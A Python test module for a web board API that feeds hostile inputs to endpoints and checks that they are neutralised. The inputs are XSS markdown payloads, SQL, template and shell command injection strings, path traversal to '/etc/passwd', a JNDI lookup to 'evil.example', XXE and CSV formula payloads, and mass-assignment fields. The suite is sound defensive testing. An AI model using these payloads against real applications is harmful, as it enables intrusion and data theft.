"""Words: markdown that would act, texts that would be code elsewhere, fields that are not the client's to say."""

from tests.unbreakable.hostile.case import Theme
from tests.unbreakable.safe_html import violations

IDEAS = "/boards/team/ideas"
IDEA = "/ideas/«idea»"
_ANY = (("If-Match", "*"),)

markdown = Theme("markdown")
MARKDOWN = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<body onload=alert(1)>", "<style>@import'//x'</style>",
    "<base href=//x/>", "<meta http-equiv=refresh content='0;url=//x'>", "<form action=//x><input name=p>", "<math><mtext></form>",
    "<!--><script>alert(1)</script-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<noscript><p title=\"</noscript>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))", "[x](vbscript:x)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)",
    "[x](\x01javascript:alert(1))", "[x]( javascript:alert(1))", "[x](%6aavascript:alert(1))", "[x](//evil.example)", "[x](blob:x)",
    "[x][r]\n\n[r]: javascript:alert(1)", "<javascript:alert(1)>", "<data:text/html,x>", "![x](javascript:alert(1))", "![x](x\"onerror=alert(1))",
    "![](http://tracker.example/pixel.gif)", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "[x](http://a \"t\\\" onclick=alert(1)\")",
    "[x](http://a 'x\" onmouseover=\"alert(1)')", "`<script>`", "```\"><script>alert(1)</script>\nx\n```", "~~~ onclick=alert(1)\nx\n~~~",
    "|a|b|\n|:-|-:|\n|<script>|[x](javascript:x)|", "# <h1 onclick=x>", "> <blockquote cite=javascript:x>", "1. <li value=javascript:x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "\\<script>", "<a\nhref=x\nonclick=alert(1)>", "<xss style=x:expression(alert(1))>",
    "[a](http://x \"&quot; onclick=x\")", "[x](https://ok.example/?a=1&b=<script>)", "<details open ontoggle=alert(1)>", "\u2028<script>\u2029",
    "**<b onclick=x>**", "~~<s onclick=x>~~", "[<img src=x onerror=x>](http://x)", "[![x](javascript:x)](javascript:y)", "<<script>script>x",
    "[" * 2000, "*" * 5000 + "a", "> " * 1000 + "x", "- " * 500 + "x", "`" * 3000, "![" * 1500 + "](x)" * 1500, "|" * 3000, "<" * 5000,
    "[x](" + "(" * 1000, "&" * 5000, "\\" * 5000, "_a" * 3000, "1. " * 700, "[a]: x\n" * 1500 + "[a]" * 1500,
)  # fmt: skip
for text in MARKDOWN:
    markdown.add(
        "POST", "/ideas/«idea»/comments", 201, None, f"{text[:50]!r} does nothing", json={"body": text}, says={"body": text},
        check=lambda answer: violations(answer.json["body_html"]) == [],
    )  # fmt: skip
    markdown.add(
        "POST", "/previews", 200, None, f"{text[:50]!r} does nothing, seen before it is posted", json={"body": text},
        check=lambda answer: violations(answer.json["body_html"]) == [],
    )  # fmt: skip

injection = Theme("code for somebody else")
INJECTED = (
    "'; DROP TABLE ideas; --", "' OR '1'='1", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)", "x') UNION SELECT digest FROM tokens --", "\\'; --",
    "$$; DROP TABLE ideas; $$", "%' AND 1=1 --", "title:* OR rank", '"unclosed', "NEAR(a b, 5)", "a* AND (b OR", "{{7*7}}", "${7*7}",
    "<%= 7*7 %>", "#{7*7}", "{0.__class__.__mro__}", "%(title)s %s %n %x", "{__import__('os').system('id')}", "$(id)", "`id`", "; id",
    "| id", "../../../etc/passwd", "..\\..\\x", "=cmd|' /C calc'!A0", "@SUM(1)", "\\x00", "\\u0000", "%00", "%0d%0aSet-Cookie: a=b",
    "x\\r\\nX: y", "${jndi:ldap://evil.example/a}", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "*)(uid=*))(|(uid=*", "__class__", "NaN", "null",
    "true", "0", "-1", "1e1000", "undefined", "[object Object]", "None", "\\", "'", '"', "`", ";", "--", "/*", "%", "_", "?", ":me", "$1", "{}",
)  # fmt: skip
for text in INJECTED:
    injection.add("POST", IDEAS, 201, None, f"{text[:40]!r} is a title", json={"title": text}, says={"title": text})
for text in INJECTED[:20]:
    injection.add("GET", f"{IDEAS}?status={text.replace('%', '%25').replace('#', '%23').replace('&', '%26')}", 422, "invalid",
                  f"{text[:40]!r} is no status", fields={"/status": "not_one_of"})  # fmt: skip
    injection.add("POST", "/ideas/«idea»/decisions", 422, "invalid", f"{text[:40]!r} is no outcome", who="ada",
                  json={"outcome": text, "rationale": "x"}, fields={"/outcome": "not_one_of"})  # fmt: skip
for slug in (
    "te am",
    "../x",
    "team'--",
    "a/b",
    "TEAM",
    "-a",
    "a-",
    "x" * 41,
    "a",
    "té",
    "a_b",
    "a.b",
    "a\n",
    "<b>",
    "",
    "%61b",
):
    injection.add("POST", "/boards", 422, "invalid", f"{slug[:20]!r} is no slug", json={"slug": slug, "name": "x"},
                  check=lambda answer: [e["pointer"] for e in answer.json["errors"]] == ["/slug"])  # fmt: skip
for zone in ("Mars/Olympus", "../../etc/passwd", "/etc/localtime", "UTC\0"[:3] + "x", "Europe/../UTC", "utc'", ""):
    injection.add("POST", "/boards", 422, "invalid", f"{zone!r} is no time zone", json={"slug": "zone", "name": "x", "time_zone": zone},
                  fields={"/time_zone": "unknown_time_zone"})  # fmt: skip
for email in (
    "x",
    "@",
    "a@b",
    "a@b.c\n",
    "a b@c.de",
    "a@b@c.de",
    "a@b.c\r\nBcc: x@y.z",
    "<a@b.c>x y",
    "x" * 65 + "@b.cd",
    "",
):
    injection.add("POST", "/accounts", 422 if email not in ("a@b.c\n",) else 201, "invalid" if email not in ("a@b.c\n",) else None,
                  f"{email[:20]!r} is no address", who="root", json={"name": "x", "email": email})  # fmt: skip
for day in ("2026-02-30", "0000-01-01", "2026-1-1", "20260101", "2026-01-01T00:00:00Z", "tomorrow", "２026-01-01", "-2026-01-01", "10000-01-01",
            20260101, "2026-01-01\n"):  # fmt: skip
    injection.add("POST", "/ideas/«idea»/decisions", 422, "invalid", f"{day!r} is no day", who="ada", fields={"/revisit_on": "type"},
                  json={"outcome": "not_now", "rationale": "x", "revisit_on": day})  # fmt: skip
for moment in ("2099-01-01", "2099-01-01T00:00:00", "2099-13-01T00:00:00Z", "2099-01-01T24:30:00Z", "2099-01-01T00:00:60Z", "2099-01-01 00:00:00Z",
               "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59", "2099-01-01T00:00:00+99:99", "now", 4102444800, "2099-01-01T00:00:00Z\n"):  # fmt: skip
    injection.add("POST", "/me/tokens", 422, "invalid", f"{moment!r} is no moment", fields={"/expires_at": "type"},
                  json={"name": "x", "scopes": ["read"], "expires_at": moment})  # fmt: skip

assignment = Theme("fields that are not the client's")
for name, value in (
    ("id", "zzzzzzzz"), ("author", "«account_ada»"), ("author_id", 1), ("status", "adopted"), ("votes", 1000), ("voted", True), ("board", "far"),
    ("board_id", 1), ("number", 1), ("version", 99), ("created_at", "2000-01-01T00:00:00Z"), ("updated_at", None), ("decision", {}), ("issue", {}),
    ("comments", 5), ("body_html", "<b>"), ("excerpt", "x"), ("decision_id", 1), ("admin", True), ("_fields", []), ("revisit_on", "2099-01-01"),
    ("edited_since_decision", True),
):  # fmt: skip
    assignment.add("POST", IDEAS, 422, "invalid", f"{name} is not said by who posts", json={"title": "x", name: value},
                   fields={f"/{name}": "unknown_field"})  # fmt: skip
    assignment.add("PATCH", IDEA, 422, "invalid", f"nor by who edits: {name}", json={name: value}, headers=_ANY,
                   fields={f"/{name}": "unknown_field"})  # fmt: skip
for method, path, who, name, value in (
    ("PATCH", "/me", "ben", "admin", True), ("PATCH", "/me", "ben", "email", "x@y.zz"), ("PATCH", "/me", "ben", "id", "zzzzzzzz"),
    ("PATCH", "/me", "ben", "disabled", False), ("PATCH", "/me", "ben", "kind", "service"), ("PATCH", "/boards/team", "ada", "slug", "mine"),
    ("PATCH", "/boards/team", "ada", "role", "leader"), ("PATCH", "/boards/team", "ada", "archived_at", None), ("PATCH", "/boards/team", "ada", "id", "x"),
    ("PATCH", "/accounts/«account_ben»", "root", "kind", "service"), ("PATCH", "/accounts/«account_ben»", "root", "email", "x@y.zz"),
    ("PATCH", "/comments/«comment»", "ben", "author", "«account_ada»"), ("PATCH", "/comments/«comment»", "ben", "parent", None),
    ("PATCH", "/comments/«comment»", "ben", "idea", "«idea_open»"), ("PATCH", "/ideas/«idea»/points/«point»", "ben", "side", "against"),
    ("PATCH", "/tasks/«task»", "ben", "status", "done"), ("PATCH", "/tasks/«task»", "ben", "author", None), ("PATCH", IDEA, "ben", "task", "«task»"),
    ("PATCH", "/boards/team/values/«value»", "ada", "retired_at", None), ("PATCH", "/connections/«connection»", "ada", "state", "active"),
    ("PATCH", "/connections/«connection»", "ada", "tracker", "bare"), ("PATCH", "/connections/«connection»", "ada", "secrets", {}),
):  # fmt: skip
    assignment.add(method, path, 422, "invalid", f"{name} is not theirs", who=who, json={name: value}, headers=_ANY,
                   fields={f"/{name}": "unknown_field"})  # fmt: skip
for path, who, body, name in (
    ("/boards", "ben", {"slug": "mine", "name": "x"}, "role"), ("/me/tokens", "ben", {"name": "x", "scopes": ["read"]}, "token"),
    ("/me/tokens", "ben", {"name": "x", "scopes": ["read"]}, "account"), ("/me/tokens", "ben", {"name": "x", "scopes": ["read"]}, "digest"),
    ("/ideas/«idea»/decisions", "ada", {"outcome": "adopt", "rationale": "x"}, "by"),
    ("/ideas/«idea»/decisions", "ada", {"outcome": "adopt", "rationale": "x"}, "from"),
    ("/ideas/«idea»/decisions", "ada", {"outcome": "adopt", "rationale": "x"}, "at"),
    ("/ideas/«idea»/decisions", "ada", {"outcome": "adopt", "rationale": "x"}, "idea_version"),
    ("/ideas/«idea»/comments", "ben", {"body": "x"}, "author"), ("/ideas/«idea»/comments", "ben", {"body": "x"}, "created_at"),
    ("/ideas/«idea»/points", "ben", {"side": "for", "text": "x"}, "weight"), ("/tasks/«task»/approaches", "ben", {"title": "x"}, "task"),
    ("/boards/team/connections", "ada", {"tracker": "fake", "name": "x", "settings": {}}, "state"),
    ("/accounts", "root", {"name": "x", "kind": "service"}, "password"),
):  # fmt: skip
    assignment.add("POST", path, 422, "invalid", f"{name} is not said here", who=who, json={**body, name: "x"},
                   check=lambda answer, name=name: f"/{name}" in {e["pointer"] for e in answer.json["errors"]})  # fmt: skip
assignment.add("POST", "/boards/team/connections", 422, "invalid", "a setting that the tracker has not", who="ada",
               json={"tracker": "fake", "name": "x", "settings": {"project": "p", "token": "t", "admin": True}},
               fields={"/settings/admin": "unknown_field"})  # fmt: skip
assignment.add("POST", "/ideas/«idea»/decisions", 422, "invalid", "a promise already kept", who="ada",
               json={"outcome": "adopt", "rationale": "x", "follow_ups": [{"promise": "x", "due_on": "2099-01-01", "state": "kept"}]},
               fields={"/follow_ups/0/state": "unknown_field"})  # fmt: skip
assignment.add("PUT", "/ideas/«idea_open»/vote", 200, None, "one vote is one vote, whatever is said with it",
               json={"votes": 1000, "voted": False}, says={"votes": 1, "voted": True})  # fmt: skip
assignment.add("PUT", "/boards/team/members/«account_dia»", 422, "invalid", "owner is no role", who="ada", json={"role": "owner"},
               fields={"/role": "not_one_of"})  # fmt: skip

THEMES = [markdown, injection, assignment]
